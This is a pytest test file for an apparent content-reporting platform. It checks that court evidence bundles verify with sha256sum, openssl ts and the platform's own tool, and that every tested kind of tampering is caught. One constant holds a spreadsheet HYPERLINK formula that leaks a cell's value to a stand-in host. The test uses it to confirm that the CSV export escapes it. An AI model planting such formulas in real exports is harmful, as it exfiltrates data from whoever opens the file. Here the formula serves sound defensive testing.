"""Court bundles: made from a real case (a notice sent over SMTP, the platform's answer,
re-checks, captures in the evidence store with real timestamps from ``openssl ts``), then
checked the way a court expert would: ``sha256sum -c``, ``openssl ts -verify`` exactly as the
README says, and ``flagdesk evidence verify``. Tampering of every kind must be caught."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import shlex
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from django.core.management import call_command
from django.core.management.base import CommandError
from django.template.loader import render_to_string
from django.utils import timezone
from PIL import Image

from flagdesk.audit.anchoring import request_timestamp
from flagdesk.audit.models import AuditEntry
from flagdesk.cases.models import Case, Item
from flagdesk.cases.services import review_assessment, submit_assessment
from flagdesk.core.errors import ValidationFailed
from flagdesk.intake.services import ReportSubmission, submit_report
from flagdesk.monitoring.bundle import (
    build_bundle,
    check_bundle,
    layout,
    verify_bundle,
    write_bundle,
)
from flagdesk.monitoring.bundle.contents import bundled_items
from flagdesk.monitoring.bundle.summary import context
from flagdesk.monitoring.capture import browser
from flagdesk.monitoring.capture.capture import run_capture
from flagdesk.monitoring.manifest import manifest_text, sha256_hex
from flagdesk.monitoring.models import Capture, CaptureFile, Check, Outcome
from flagdesk.monitoring.storage import store
from flagdesk.notices.models import Notice
from flagdesk.notices.services import queue_notices, record_response
from flagdesk.notices.tasks import send_outbox_row
from flagdesk.notices.tests.factories import (
    FACTS_ON,
    LEGAL_BASES,
    REASONS,
    confirm_verify_bases,
    make_platform,
)

from .test_capture import make_capture, make_item, page

pytestmark = pytest.mark.django_db

FLAGDESK = Path(sys.executable).with_name("flagdesk")
STATEMENT = "We removed the image under our policy on intimate imagery."
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"click")'


def png(seed: int) -> bytes:
    """A synthetic full-page "screenshot": coloured bands, no real content."""
    image = Image.new("RGB", (64, 96), (seed * 40 % 256, 90, 160))
    for y in range(0, 96, 12):
        for x in range(64):
            image.putpixel((x, y), (255, 255 - seed, 0))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def page_files(seed: int) -> dict[str, tuple[str, str, bytes]]:
    url = f"https://social.test/p/{seed}"
    return {
        "screenshot.png": ("screenshot", "image/png", png(seed)),
        "page.txt": ("text", "text/plain", f"Post {seed} by a fictional account\n".encode()),
        "page.html": ("dom", "text/html", f"<html><body><p>Post {seed}</p></body></html>".encode()),
        "headers.json": ("headers", "application/json", b'{"content-type": "text/html"}\n'),
        "page.warc.gz": ("warc", "application/warc", f"WARC/1.1 {url} (synthetic)".encode()),
    }


def done_capture(
    item: Item,
    files: dict[str, tuple[str, str, bytes]],
    *,
    media_allowed: bool = True,
    timestamped: bool = True,
) -> Capture:
    """A capture as the capture engine leaves it: files encrypted in the evidence store, the
    manifest of their SHA-256, and the TSA's answer for the manifest's bytes."""
    now = timezone.now()
    manifest = manifest_text([(name, sha256_hex(data)) for name, (_k, _c, data) in files.items()])
    token = request_timestamp(manifest.encode()) if timestamped else None
    capture = Capture.objects.create(
        item=item,
        trigger=Capture.Trigger.REQUEST,
        requested_at=now - dt.timedelta(seconds=30),
        status=Capture.Status.DONE,
        media_allowed=media_allowed,
        url=item.url,
        captured_at=now,
        final_url=item.url + "?redirected=1",
        http_status=200,
        manifest=manifest,
        manifest_sha256=sha256_hex(manifest.encode()),
        timestamp_token=token,
        timestamped_at=now if token else None,
        timestamp_problem="" if token else "No timestamp authority is configured.",
    )
    for name, (kind, content_type, data) in files.items():
        CaptureFile.objects.create(
            capture=capture,
            kind=kind,
            name=name,
            content_type=content_type,
            size=len(data),
            sha256=sha256_hex(data),
            storage_key=store().put(data),
        )
    return capture


def check(item: Item, minutes_ago: int, outcome: str, **fields: Any) -> Check:
    return Check.objects.create(
        item=item,
        at=timezone.now() - dt.timedelta(minutes=minutes_ago),
        trigger=Check.Trigger.SCHEDULE,
        outcome=outcome,
        reason=fields.pop("reason", "http_200"),
        **fields,
    )


@pytest.fixture
def case(users, smtp_server, tsa) -> Case:
    """Two approved items of one report, notified together; the platform removed them and
    said why; each was re-checked; each has one capture, the first item two."""
    make_platform(users)
    submitted = submit_report(
        ReportSubmission(
            urls=["https://social.test/p/1", "https://social.test/p/2"],
            role="witness",
            phenomenon="ncii",
        )
    )
    for item in submitted.items:
        assessment = submit_assessment(
            item,
            actor=users["analyst"],
            verdict="illegal",
            phenomenon="ncii",
            legal_bases=LEGAL_BASES["ncii"],
            reasons=REASONS,
            facts_on=FACTS_ON,
        )
        confirm_verify_bases(users, LEGAL_BASES["ncii"])
        review_assessment(assessment, actor=users["reviewer"], approve=True)
    items = sorted(submitted.items, key=lambda i: i.created_at)
    [notice] = queue_notices(items, actor=users["analyst"])
    send_outbox_row.call(str(notice.outbox.id))
    notice.refresh_from_db()
    assert notice.status == Notice.Status.SENT
    record_response(
        notice,
        actor=users["intake"],
        kind="decision",
        decision="removed",
        received_at=timezone.now(),
        statement=STATEMENT,
        platform_reference="TICKET-7",
    )
    for n, item in enumerate(items, start=1):
        check(item, 90, Outcome.ONLINE, http_status=200, content_sha256="a" * 64)
        check(
            item,
            10,
            Outcome.GONE,
            http_status=404,
            reason="http_404",
            looks_gone=True,
            gone_signal=Check.GoneSignal.STATUS,
            detail=FORMULA,
        )
        done_capture(item, page_files(n))
    done_capture(items[0], {"screenshot.png": ("screenshot", "image/png", png(9))})
    return submitted.items[0].case


def bundle_file(tmp_path: Path, case: Case, users: dict[str, Any], **kwargs: Any) -> Path:
    path = tmp_path / "bundle.zip"
    path.write_bytes(build_bundle(case=case, actor=users["coordinator"], **kwargs))
    return path


def extract(path: Path, into: Path) -> Path:
    with zipfile.ZipFile(path) as archive:
        archive.extractall(into)
    return into


def readme_commands(folder: Path, prefix: str) -> list[str]:
    lines = (folder / layout.README).read_text().splitlines()
    return [line.strip() for line in lines if line.strip().startswith(prefix)]


def run(command: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """A README line run as an expert would paste it into a shell."""
    return subprocess.run(
        ["/bin/sh", "-c", command], cwd=cwd, capture_output=True, text=True, timeout=60
    )


def capture_dirs(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return sorted({m["dir"] for n in archive.namelist() if (m := layout.CAPTURE_PATH.match(n))})


def test_the_bundle_holds_every_part_in_its_place(case, users, tmp_path):
    path = bundle_file(tmp_path, case, users)
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        assert {"README.txt", "SHA256SUMS", "summary.pdf", "checks.csv"} <= names
        assert "timestamps/tsa-chain.pem" in names
        folders = capture_dirs(path)
        assert len(folders) == 3
        assert [f.split("/")[1] for f in folders].count("01-social") == 2
        for folder in folders:
            own = {n.removeprefix(folder + "/") for n in names if n.startswith(folder + "/")}
            assert {"manifest.sha256", "manifest.tsr", "capture.json"} <= own
        rows = list(csv.DictReader(io.StringIO(archive.read("checks.csv").decode("utf-8-sig"))))
        assert len(rows) == 4 and rows[0]["url"] == "https://social.test/p/1"
        gone = [row for row in rows if row["reason"] == "http_404"]
        assert [row["detail"] for row in gone] == ["'" + FORMULA] * 2  # shown, never run
        assert {row["looks_gone"] for row in gone} == {"yes"}
        sums = archive.read("SHA256SUMS").decode().splitlines()
        assert sorted(line.split("  ", 1)[1] for line in sums) == sorted(names - {"SHA256SUMS"})
        chain = x509.load_pem_x509_certificates(archive.read("timestamps/tsa-chain.pem"))
        assert [c.subject.rfc4514_string() for c in chain] == ["CN=flagdesk test timestamping CA"]


def test_standard_tools_verify_the_extracted_bundle_as_the_readme_says(case, users, tmp_path):
    folder = extract(bundle_file(tmp_path, case, users), tmp_path / "bundle")
    done = run("sha256sum -c SHA256SUMS", folder)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.count(": OK") == len((folder / "SHA256SUMS").read_text().splitlines())

    verify = readme_commands(folder, "openssl ts -verify")
    assert len(verify) == 3
    for command in verify:
        assert shlex.split(command)[-2:] == ["-CAfile", "timestamps/tsa-chain.pem"]
        done = run(command, folder)
        assert done.returncode == 0, command + "\n" + done.stdout + done.stderr
        assert "Verification: OK" in done.stdout

    # Once the authority's certificate has expired: -attime, the README gives each value.
    attimes = [line.split("→ ")[1] for line in readme_commands(folder, "items/") if "→" in line]
    assert len(attimes) == 3 and all(a.startswith("-attime ") for a in attimes)
    done = run(f"{verify[0]} {attimes[0]}", folder)
    assert "Verification: OK" in done.stdout, done.stderr

    for command in readme_commands(folder, "openssl ts -reply"):
        assert "Time stamp:" in run(command, folder).stdout

    per_capture = readme_commands(folder, "(cd items/")
    assert len(per_capture) == 3
    for command in per_capture:
        done = run(command, folder)
        assert done.returncode == 0 and "FAILED" not in done.stdout, done.stdout + done.stderr


def test_openssl_refuses_a_token_moved_to_another_capture(case, users, tmp_path):
    folder = extract(bundle_file(tmp_path, case, users), tmp_path / "bundle")
    first, second = capture_dirs(tmp_path / "bundle.zip")[:2]
    (folder / first / "manifest.tsr").write_bytes((folder / second / "manifest.tsr").read_bytes())
    command = next(c for c in readme_commands(folder, "openssl ts -verify") if first in c)
    done = run(command, folder)
    assert done.returncode != 0 and "Verification: OK" not in done.stdout


def test_flagdesk_evidence_verify_accepts_the_bundle(case, users, tmp_path):
    path = bundle_file(tmp_path, case, users)
    assert verify_bundle(path) == []
    out = io.StringIO()
    call_command("evidence_verify", str(path), stdout=out)
    lines = out.getvalue().splitlines()
    assert lines[0] == "bundle verified: 25 files, 3 captures, 3 timestamps"
    assert sum("timestamped" in line and line.endswith(" UTC") for line in lines) == 3

    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "flagdesk.settings"}
    done = subprocess.run(
        [str(FLAGDESK), "evidence", "verify", str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("bundle verified: 25 files, 3 captures, 3 timestamps")


# Each tampering rewrites the ZIP; ``resum`` recomputes SHA256SUMS as a forger would, so only
# the capture manifests and the timestamps are left to catch it.
Change = Callable[[dict[str, bytes], list[str]], None]


def _change_screenshot(files: dict[str, bytes], folders: list[str]) -> None:
    files[f"{folders[0]}/screenshot.png"] = png(42)


def _change_screenshot_and_manifest(files: dict[str, bytes], folders: list[str]) -> None:
    files[f"{folders[0]}/screenshot.png"] = png(42)
    listed = {n.removeprefix(folders[0] + "/"): d for n, d in files.items() if folders[0] in n}
    entries = [(n, sha256_hex(listed[n])) for n in listed if n not in layout.CAPTURE_OWN]
    files[f"{folders[0]}/manifest.sha256"] = manifest_text(entries).encode()


def _swap_tokens(files: dict[str, bytes], folders: list[str]) -> None:
    a, b = f"{folders[0]}/manifest.tsr", f"{folders[1]}/manifest.tsr"
    files[a], files[b] = files[b], files[a]


def _add_file(files: dict[str, bytes], folders: list[str]) -> None:
    files[f"{folders[0]}/extra.png"] = png(7)


def _add_top_level_file(files: dict[str, bytes], folders: list[str]) -> None:
    files["notes.txt"] = b"added later"


def _remove_file(files: dict[str, bytes], folders: list[str]) -> None:
    del files[next(f"{f}/page.txt" for f in folders if f"{f}/page.txt" in files)]


def _remove_token(files: dict[str, bytes], folders: list[str]) -> None:
    files[f"{folders[0]}/manifest.tsr"] = b"not a token"


TAMPERING: dict[str, tuple[Change, bool, str]] = {
    "changed file": (_change_screenshot, False, "screenshot.png: does not match SHA256SUMS."),
    "changed file, sums redone": (
        _change_screenshot,
        True,
        "screenshot.png: does not match its capture's manifest.",
    ),
    "changed file and manifest, sums redone": (
        _change_screenshot_and_manifest,
        True,
        "manifest.tsr: the timestamp is not of this manifest.",
    ),
    "swapped tokens, sums redone": (
        _swap_tokens,
        True,
        "manifest.tsr: the timestamp is not of this manifest.",
    ),
    "extra file": (_add_file, False, "extra.png: not listed in SHA256SUMS."),
    "extra file, sums redone": (
        _add_file,
        True,
        "extra.png: not listed in its capture's manifest.",
    ),
    "extra top-level file, sums redone": (
        _add_top_level_file,
        True,
        "notes.txt: not part of a bundle.",
    ),
    "missing file": (_remove_file, False, "page.txt: listed in SHA256SUMS but missing."),
    "missing file, sums redone": (
        _remove_file,
        True,
        "page.txt: listed in its capture's manifest but missing.",
    ),
    "broken token, sums redone": (_remove_token, True, "not an RFC 3161 timestamp."),
}


def rewrite(path: Path, change: Change, *, resum: bool) -> Path:
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    change(files, capture_dirs(path))
    if resum:
        files["SHA256SUMS"] = manifest_text(
            (n, sha256_hex(d)) for n, d in files.items() if n != "SHA256SUMS"
        ).encode()
    tampered = path.with_name("tampered.zip")
    with zipfile.ZipFile(tampered, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return tampered


@pytest.mark.parametrize("how", sorted(TAMPERING))
def test_tampering_makes_verify_fail_with_a_clear_problem(case, users, tmp_path, how):
    change, resum, expected = TAMPERING[how]
    tampered = rewrite(bundle_file(tmp_path, case, users), change, resum=resum)
    problems = verify_bundle(tampered)
    assert any(p.endswith(expected) for p in problems), problems
    err = io.StringIO()
    with pytest.raises(CommandError, match="the bundle does not verify"):
        call_command("evidence_verify", str(tampered), stderr=err)
    assert err.getvalue().splitlines() == problems


def test_the_console_script_exits_non_zero_on_a_tampered_bundle(case, users, tmp_path):
    tampered = rewrite(bundle_file(tmp_path, case, users), _swap_tokens, resum=True)
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "flagdesk.settings"}
    done = subprocess.run(
        [str(FLAGDESK), "evidence", "verify", str(tampered)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.count("the timestamp is not of this manifest") == 2
    assert "Traceback" not in done.stderr


def test_timestamps_can_be_checked_against_the_authoritys_own_certificates(
    case, users, tmp_path, tsa_authority
):
    path = bundle_file(tmp_path, case, users)
    out = io.StringIO()
    call_command("evidence_verify", str(path), "--tsa-ca", str(tsa_authority.ca_file), stdout=out)
    assert out.getvalue().startswith("bundle verified")
    # Against another CA (the one a forger would bundle), no timestamp verifies.
    problems = check_bundle(path, trusted=[other_ca()]).problems
    assert len(problems) == 3
    assert all("signature is not valid" in p for p in problems)


def other_ca() -> x509.Certificate:
    """A self-signed CA with the same name as the test TSA's CA, and another key."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "flagdesk test timestamping CA")])
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )


def test_the_summary_pdf_is_a_pdf_and_says_what_happened(case, users, tmp_path):
    path = bundle_file(tmp_path, case, users)
    with zipfile.ZipFile(path) as archive:
        pdf = archive.read("summary.pdf")
    # Neither pypdf nor pdftotext is installed here: check the file, then the HTML it is drawn
    # from (below) for its text.
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert len(pdf) > 10_000

    items = bundled_items(case, None)
    html = render_to_string(
        "monitoring/bundle_summary.html",
        context(case_reference=case.reference, items=items, generated_at=timezone.now(),
                certificates=[]),
    )  # fmt: skip
    notice = Notice.objects.get()
    for expected in (
        case.reference,
        "https://social.test/p/1",
        "Social",
        notice.reference,
        "TICKET-7",
        STATEMENT,
        "Removed",
        "The page is gone (HTTP 404).",
        "a" * 64,
        "screenshot.png",
        hashlib.sha256(png(1)).hexdigest(),
        "How to verify",
        "sha256sum -c SHA256SUMS",
        " UTC",
    ):
        assert expected in html, expected


def test_the_export_is_audited_without_personal_data(case, users):
    data = build_bundle(case=case, actor=users["coordinator"], reason="Requested by the court")
    entry = AuditEntry.objects.get(action="evidence.bundle")
    assert entry.actor == users["coordinator"] and entry.target == f"case:{case.pk}"
    assert entry.reason == "Requested by the court"
    assert entry.data == {
        "case": case.reference,
        "items": 2,
        "captures": 3,
        "files": 11,
        "timestamps": 3,
        "unavailable": 0,
        "bytes": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
    }
    assert "social.test" not in str(entry.data)


def test_a_bundle_can_be_written_to_a_file(case, users, tmp_path):
    target = tmp_path / "out.zip"
    report = write_bundle(target, case=case, actor=users["coordinator"])
    assert report.sha256 == hashlib.sha256(target.read_bytes()).hexdigest()
    assert report.filename.startswith(f"{case.reference}-bundle-")
    assert report.filename.endswith("Z.zip")
    assert verify_bundle(target) == []


def test_minors_captures_without_media_still_bundle_and_verify(users, tsa, tmp_path):
    """Where the law forbids keeping the content: one capture with no file at all (an empty
    manifest cannot be timestamped: RFC 3161 clients refuse empty data), one with only the
    response headers, timestamped."""
    make_platform(users)
    [item] = submit_report(
        ReportSubmission(urls=["https://social.test/p/9"], role="witness", phenomenon="ncii")
    ).items
    bare = done_capture(item, {}, media_allowed=False, timestamped=False)
    headers = {"headers.json": page_files(9)["headers.json"]}
    done_capture(item, headers, media_allowed=False)
    path = bundle_file(tmp_path, item.case, users)
    assert verify_bundle(path) == []
    folders = capture_dirs(path)
    assert len(folders) == 2
    with zipfile.ZipFile(path) as archive:
        for folder in folders:
            own = {n.removeprefix(folder + "/") for n in archive.namelist() if folder in n}
            if str(bare.id) in folder:
                assert own == {"manifest.sha256", "capture.json"}
                assert archive.read(f"{folder}/manifest.sha256") == b""
            else:
                assert own == {"manifest.sha256", "manifest.tsr", "capture.json", "headers.json"}
            info = json.loads(archive.read(f"{folder}/capture.json"))
            assert info["media_allowed"] is False and info["http_status"] == 200
    extracted = extract(path, tmp_path / "bundle")
    assert run("sha256sum -c SHA256SUMS", extracted).returncode == 0
    [command] = readme_commands(extracted, "openssl ts -verify")
    assert "Verification: OK" in run(command, extracted).stdout
    [files_check] = readme_commands(extracted, "(cd items/")  # the capture with a file only
    assert run(files_check, extracted).returncode == 0


def test_a_capture_whose_files_are_gone_is_named_not_bundled(case, users, tmp_path):
    capture = Capture.objects.filter(item__case=case).order_by("requested_at").first()
    assert capture is not None
    store().delete(capture.files.get(name="page.txt").storage_key)
    target = tmp_path / "out.zip"
    report = write_bundle(target, case=case, actor=users["coordinator"])
    assert (report.captures, report.unavailable) == (2, 1)
    assert str(capture.id) not in " ".join(capture_dirs(target))
    assert verify_bundle(target) == []
    items = bundled_items(case, None)
    html = render_to_string(
        "monitoring/bundle_summary.html",
        context(case_reference=case.reference, items=items, generated_at=timezone.now(),
                certificates=[]),
    )  # fmt: skip
    assert str(capture.id) in html


def test_a_capture_without_timestamp_is_said_so(users, tsa, tmp_path):
    make_platform(users)
    [item] = submit_report(
        ReportSubmission(urls=["https://social.test/p/8"], role="witness", phenomenon="ncii")
    ).items
    done_capture(item, page_files(8), timestamped=False)
    path = bundle_file(tmp_path, item.case, users)
    out = io.StringIO()
    call_command("evidence_verify", str(path), stdout=out)
    assert out.getvalue().splitlines()[-1].endswith(": no timestamp")
    extracted = extract(path, tmp_path / "bundle")
    assert readme_commands(extracted, "openssl ts -verify") == []
    assert "No capture of this bundle has a timestamp" in (extracted / "README.txt").read_text()


def test_only_the_chosen_items_and_only_the_case_s_own(case, users, tmp_path):
    first, second = case.items.order_by("created_at")
    path = bundle_file(tmp_path, case, users, items=[second])
    folders = capture_dirs(path)
    assert len(folders) == 1 and folders[0].startswith("items/01-social/")
    with zipfile.ZipFile(path) as archive:
        assert "https://social.test/p/1" not in archive.read("checks.csv").decode()
    other = submit_report(
        ReportSubmission(urls=["https://social.test/p/5"], role="witness", phenomenon="ncii")
    ).items[0]
    with pytest.raises(ValidationFailed):
        build_bundle(case=case, items=[first, other], actor=users["coordinator"])


def test_not_a_bundle(tmp_path):
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"not a zip")
    [problem] = verify_bundle(junk)
    assert "not a readable ZIP file" in problem
    assert "not a readable ZIP file" in verify_bundle(tmp_path / "absent.zip")[0]


@pytest.fixture(scope="module")
def _browser_shutdown() -> Iterator[None]:
    yield
    browser.shutdown()


@pytest.mark.browser
def test_captures_of_the_capture_engine_bundle_and_verify(
    hostile_server, tsa, users, tmp_path, _browser_shutdown
):
    """The real engine (Chromium, WARC, TSA) and the minors' path (headers only): both
    bundles verify with openssl exactly as their README says, and with flagdesk."""
    hostile_server.answer("/post", body=page("<h1>Fictional post</h1><p>Synthetic.</p>"))
    url = hostile_server.url("/post")
    for minor in (False, True):
        item = make_item(url, minor=minor)
        capture = make_capture(item, media_allowed=not minor)
        run_capture(capture)
        capture.refresh_from_db()
        assert capture.status == Capture.Status.DONE, capture.failure
        path = tmp_path / f"bundle-{minor}.zip"
        path.write_bytes(build_bundle(case=item.case, actor=users["coordinator"]))
        assert verify_bundle(path) == []
        folder = extract(path, tmp_path / f"bundle-{minor}")
        assert run("sha256sum -c SHA256SUMS", folder).returncode == 0
        [command] = readme_commands(folder, "openssl ts -verify")
        assert "Verification: OK" in run(command, folder).stdout
        [files_check] = readme_commands(folder, "(cd items/")
        done = run(files_check, folder)
        assert done.returncode == 0
        assert done.stdout.count(": OK") == (1 if minor else 5)
